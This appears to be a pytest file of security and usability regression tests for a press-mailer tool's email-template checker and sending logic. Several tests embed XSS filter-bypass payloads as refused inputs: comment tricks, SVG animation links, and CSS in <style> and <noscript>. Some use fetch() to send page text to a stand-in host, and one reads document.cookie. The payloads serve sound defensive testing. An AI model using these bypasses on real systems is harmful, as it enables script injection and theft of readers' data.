"""Review 24x: a hostile reviewer's findings in the day's merged work, each a test that failed before its fix."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT
from office_cli import SEND, agency_release, campaign_of, greeted_as, mailed, mailer, office, said

# -- 1. an SVG animation's list of values slipped a javascript: link past the template check ----------


def test_a_template_cannot_hide_a_javascript_link_in_an_svg_animations_list(project: Path) -> None:
    """An agency's template may not run anything in the press officer's browser (review 24k #1), yet
    <animate attributeName="href" values="https://...;javascript:..."> went through: only the list's
    first address was read, and the link it animates runs the agency's script when she clicks it in
    `mailer preview --open`. Each address of the list is read now, and the template refused."""
    svg = (
        '<svg width="200" height="30"><a><animate attributeName="href" dur="2s" repeatCount="indefinite" '
        'values="https://agency.example/; javascript:fetch(`https://agency.example/?d=`+document.body.innerText)"/>'
        '<text x="0" y="20">Our press kit</text></a></svg>'
    )
    release = agency_release(project, svg)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "javascript: is not allowed in an email template" in said(result), result.output
    assert not (project / "out" / "pitch.html").exists()
    # an animation between two web addresses is no script
    (project / "agency" / "kit.html.j2").write_text(
        (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").replace("javascript:fetch", "https://example.org/?fetch"),
        encoding="utf-8",
    )
    assert mailer("preview", str(release), "-o", "out").exit_code == 0


# What an HTML comment hides from the template check's parser, but not from lxml's (which writes
# the email) nor from a browser: each comment ends early there, and what follows it runs.
HIDDEN_IN_COMMENTS = [
    ('<!--><script>fetch("https://agency.example/?d=" + document.body.innerText)</script>-->', "<script>"),
    ('<!---><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
    ('<!-- --!><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
    ('<![CDATA[><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">]]>', "<![CDATA["),
]


@pytest.mark.parametrize(("extra", "named"), HIDDEN_IN_COMMENTS)
def test_a_template_cannot_hide_a_script_behind_a_comment_that_ends_early(project: Path, extra: str, named: str) -> None:
    """The template check (review 24k #1) read "<!--><script>...</script>-->" as one comment, but
    lxml, which writes the email, reads "<!-->" as a whole, empty comment, as browsers do: the
    preview's HTML and every journalist's email held the agency's script, live, and `mailer preview`
    said "No warnings.". The HTML as written for the email is checked too now, and refused."""
    release = agency_release(project, extra)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert f"{named} is not allowed in an email template" in said(result), result.output
    assert "kit.html.j2" in result.output, result.output
    assert not (project / "out" / "pitch.html").exists()


# -- 2. the dry run's advice next to a scheduled send led to a live send that mailed them twice -------


def test_include_previous_next_to_a_scheduled_send_leaves_them_to_it(tmp_path: Path, standin: Any, db_url: str) -> None:
    """After scheduling the release, a dry run to the Regional journalists said to add
    --include-previous to see their emails (review of newcomer 24 #2); that dry run then ended "To
    send, run the same command without --dry-run.", and the live send it names mailed Ana at once,
    with no word in its plan, while SendGrid held her scheduled email of the same release: she got
    it twice. A send with --include-previous (its dry run too) now says so, and how to avoid it."""
    beat = "Email,First Name,Outlet,Tags\nana@daily.example,Ana,Daily News,Regional\nben@gazette.example,Ben,The Gazette,National\n"
    office(tmp_path, standin, db_url, beat=beat)
    at = (datetime.now(UTC) + timedelta(hours=3)).replace(second=0, microsecond=0)
    scheduled = mailer(*SEND, "--at", f"{at:%Y-%m-%d %H:%M} UTC")
    assert scheduled.exit_code == 0, scheduled.output
    campaign_id = campaign_of(scheduled)
    regional = ("send", "releases/example.md", "--list", "lists/beat.csv", "--tag", "Regional")
    dry = mailer(*regional, "--dry-run")
    # review 24s #5 leaves them to the scheduled send with --include-previous too (review 24y #3: this
    # dry run's advice to add it, then a warning that she would get it twice, were both untrue since)
    assert f"To see the email one of them gets: mailer show {campaign_id} --contact EMAIL" in said(dry), dry.output
    for shown in (mailer(*regional, "--dry-run", "--include-previous"), mailer(*regional, "--include-previous", "--yes", "--no-test-ok")):
        assert shown.exit_code == 1, shown.output
        assert "so they are skipped" in said(shown) and "again at that time" not in said(shown), shown.output
        assert "add --include-previous" not in said(shown), shown.output
    assert mailed(standin).count("ana@daily.example") == 1


# -- 3. a journalist whose row notes her outlet after her name was greeted as an outlet ----------------


def test_a_name_followed_by_its_outlet_keeps_its_first_name(tmp_path: Path, standin: Any, db_url: str) -> None:
    """An outlet in the name column gives no first name (lead 24), but media databases write a
    journalist's outlet after her name: "Jane Doe (BBC News)", "MARTIN Jean-Pierre (Radio France)",
    "Anna Schmidt – Süddeutsche Zeitung". Those rows, greeted "Dear Jane," until today, were greeted
    "Dear colleague,": the outlet's word anywhere in the cell made the whole row an outlet's. The
    outlet noted after a name of two words or more (in brackets, or after a dash or slash) no longer
    counts; a newsdesk's own row, with or without a note, is still greeted with the default."""
    rows = [
        ("Jane Doe (BBC News)", "jane@bbc.example", "Jane"),
        ("MARTIN Jean-Pierre (Radio France)", "jp@radiofrance.example", "Jean-Pierre"),
        ("Anna Schmidt – Süddeutsche Zeitung", "anna@sz.example", "Anna"),
        ("Tom Hale / The Times", "tom@times.example", "Tom"),
        ('"Doe, Sam (BBC Radio)"', "sam@bbc.example", "Sam"),
        ("BBC News (London)", "london@bbc.example", "colleague"),
        ("Press Office - Berlin", "berlin@press.example", "colleague"),
        ("Politics – BBC News", "politics@bbc.example", "colleague"),  # one word before it: a desk, not a person
        ("Berlin (Press Office)", "presse@berlin.example", "colleague"),
        ("The Guardian", "national@guardian.example", "colleague"),
    ]
    greeted_as(tmp_path, standin, db_url, rows)


# -- 4. outlets still greeted by their first word -------------------------------------------------------


def test_more_outlets_in_the_name_column_are_greeted_with_the_default(tmp_path: Path, standin: Any, db_url: str) -> None:
    """An outlet in the name column gives no first name (lead 24), but "Daily Mail" was still greeted
    "Dear Daily,", "Der Spiegel" "Dear Der,", "Il Fatto Quotidiano" "Dear Il,", "New Scientist" "Dear
    New,", "Evening Standard" "Dear Evening,". They get the default now; people whose names open with
    Le, Les or El (Vietnamese, English, West African names), or "Der" in "Der Hovanessian, Ani", keep theirs."""
    rows = [
        ("Daily Mail", "news@mail.example", "colleague"),
        ("Der Spiegel", "redaktion@spiegel.example", "colleague"),
        ("Die Zeit", "redaktion@zeit.example", "colleague"),
        ("Het Parool", "redactie@parool.example", "colleague"),
        ("Il Fatto Quotidiano", "redazione@fatto.example", "colleague"),
        ("New Scientist", "news@newscientist.example", "colleague"),
        ("Evening Standard", "news@standard.example", "colleague"),
        ("Corriere della Sera", "cronaca@corriere.example", "colleague"),
        ("Le Thi Hoa", "hoa@tuoitre.example", "Le"),
        ("Les Hinton", "les@wire.example", "Les"),
        ('"Der Hovanessian, Ani"', "ani@asbarez.example", "Ani"),
        ("Ilse Weber", "ilse@taz.example", "Ilse"),
    ]
    greeted_as(tmp_path, standin, db_url, rows)


# -- 6. a preview upgraded a log colleagues' earlier press-mailer still used -----------------------------


def test_a_preview_leaves_a_log_of_an_earlier_version_as_it_is(project: Path) -> None:
    """`mailer preview` only writes the email to files; since it looks for a scheduled send of the
    release (lead 24), it opened the delivery log as sending does, and so upgraded a log an earlier
    press-mailer wrote ("Upgrading the delivery log ... for this version"). On a team's shared log,
    a press officer trying a new version with a preview left every colleague still on the earlier
    one refused by the log ("upgraded by a newer press-mailer ... does not open it"), their webhook
    too. The preview now looks without upgrading: it says it did not look, and the log is unchanged."""
    log = project / "out" / "mailer.db"
    log.parent.mkdir()
    shutil.copyfile(ROOT / "tests" / "data" / "logs" / "mailer-0.1.0.db", log)
    before = log.read_bytes()
    (project / "mailer.toml").write_text(f'[database]\nurl = "sqlite:///{log}"\n', encoding="utf-8")
    shown = mailer("preview", "releases/example.md")
    assert shown.exit_code == 0, shown.output
    assert "Upgrading" not in shown.output, shown.output
    assert "did not look in it for a scheduled send" in said(shown), shown.output
    assert log.read_bytes() == before


# -- 7. a picture's onerror= in the CSS of an SVG --------------------------------------------------------


def test_a_template_cannot_hide_markup_in_an_svgs_style(project: Path) -> None:
    """Inside <svg>, a browser reads a <style>'s text as markup, where the template check's parser
    (and lxml) read CSS: '<svg><style>@media screen{a{font-family:"<img src=... onerror=...>"}}</style></svg>'
    went through the check, inlining kept the CSS string in the email, and the browser that opened
    the preview made a picture of it and ran its onerror=. An SVG's <style> holding markup is refused;
    an SVG logo with its own CSS (as drawing programs export one) is fine. (The <noscript> case,
    ended by a "</noscript>" in its CSS, is the next test.)"""
    svg = (
        '<svg width="10" height="10"><style>@media screen{a{font-family:"<img src=https://agency.example/none.png '
        'onerror=fetch(`https://agency.example/?d=`+document.body.innerText)>"}}</style></svg>'
    )
    release = agency_release(project, svg)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "<img> inside <style> is not allowed in an email template" in said(result), result.output  # review 24k's rule
    assert not (project / "out" / "pitch.html").exists()
    logo = '<svg width="10" height="10"><defs><style>.cls-1{fill:#f5a623}</style></defs><rect class="cls-1" width="10" height="10"/></svg>'
    (project / "agency" / "kit.html.j2").write_text(
        (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").replace(svg, logo), encoding="utf-8"
    )
    fine = mailer("preview", str(release), "-o", "out")
    assert fine.exit_code == 0, fine.output


def test_a_template_cannot_end_a_noscript_inside_its_css(project: Path) -> None:
    """A browser running scripts reads a <noscript> as text up to the first "</noscript>", in a
    CSS string too, where lxml reads a <style> inside it: '<noscript><style>@media screen{a{font-family:
    "</noscript><img src=... onerror=...>"}}</style></noscript>' passed the check, and the preview ran
    the picture's onerror=. Refused, as the SVG's."""
    css = '@media screen{a{font-family:"</noscript><img src=https://agency.example/none.png onerror=alert(document.cookie)>"}}'
    release = agency_release(project, f"<noscript><style>{css}</style></noscript>")
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole
    assert not (project / "out" / "pitch.html").exists()


def test_a_template_cannot_end_a_noscript_inside_a_comment(project: Path) -> None:
    """The same with a comment: lxml keeps '<noscript><!-- </noscript><img src=... onerror=...> --></noscript>'
    as a comment in the email, which a browser running scripts ends at its "</noscript>"."""
    extra = '<noscript><!--[if mso]></noscript><img src="https://agency.example/none.png" onerror="alert(1)"><![endif]--></noscript>'
    result = mailer("preview", str(agency_release(project, extra)), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole


# -- 8. the way offered for a day-first date was itself refused ------------------------------------------


def test_a_time_written_the_british_way_is_read(tmp_path: Path, standin: Any, db_url: str) -> None:
    """A UK office's --at "03/12/2026 9am Europe/London" was answered (newcomer 24 #3) 'For 3 December,
    write --at "2026-12-03 9am Europe/London"'; pasted, that was "not a time mailer understands", with a
    New York example; so was an embargo at "12.01am", as UK releases write it. --at and embargo: read
    9am, 9.30am, 09.00, 12pm and 12.01am (a minute past midnight), and the offered command works."""
    from zoneinfo import ZoneInfo

    office(tmp_path, standin, db_url)
    tomorrow = (datetime.now(ZoneInfo("Europe/London")) + timedelta(days=1)).date()
    written = f"{tomorrow:%d/%m/%Y} 9am Europe/London"
    refused = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--dry-run", "--at", written)
    assert refused.exit_code == 1, refused.output
    offered = f'--at "{tomorrow:%Y-%m-%d} 9am Europe/London"'
    assert offered in said(refused), refused.output
    planned = mailer(
        "send", "releases/example.md", "--list", "lists/beat.csv", "--dry-run", "--at", f"{tomorrow:%Y-%m-%d} 9am Europe/London"
    )
    assert planned.exit_code == 0, planned.output
    nine = datetime(tomorrow.year, tomorrow.month, tomorrow.day, 9, tzinfo=ZoneInfo("Europe/London")).astimezone(UTC)
    assert f"Scheduled:  {nine:%Y-%m-%d %H:%M} UTC" in planned.output, planned.output
    release = tmp_path / "releases" / "example.md"
    release.write_text(
        release.read_text(encoding="utf-8").replace("---\n", f'---\nembargo: "{tomorrow:%Y-%m-%d} 12.01am Europe/London"\n', 1),
        encoding="utf-8",
    )
    shown = mailer("preview", "releases/example.md")
    assert shown.exit_code == 0, shown.output
    assert "EMBARGOED UNTIL" in (tmp_path / "out" / "preview" / "example.txt").read_text(encoding="utf-8")
    assert "12:01 AM" in (tmp_path / "out" / "preview" / "example.txt").read_text(encoding="utf-8")


# -- 9. a UK office writing American English on purpose was told to add en-GB on every preview -----------


def test_a_release_that_names_its_english_is_not_told_to_write_british_dates(tmp_path: Path, standin: Any, db_url: str) -> None:
    """A UK office is told, on preview, that `language: en-GB` writes British dates (newcomer 24 #5),
    meant for a release with no language: line. A release written for American journalists says
    `language: en` on purpose, and was told the same on every preview; it is no longer. A release
    without the line is still told."""
    office(tmp_path, standin, db_url)
    with (tmp_path / "mailer.toml").open("a", encoding="utf-8") as toml:
        toml.write('\n[reports]\ntime_zone = "Europe/London"\n')
    hint = "add language: en-GB to the release's front matter"
    unsaid = mailer("preview", "releases/example.md")
    assert unsaid.exit_code == 0 and hint in said(unsaid), unsaid.output
    release = tmp_path / "releases" / "example.md"
    release.write_text(release.read_text(encoding="utf-8").replace("---\n", "---\nlanguage: en\n", 1), encoding="utf-8")
    chosen = mailer("preview", "releases/example.md")
    assert chosen.exit_code == 0 and hint not in said(chosen), chosen.output
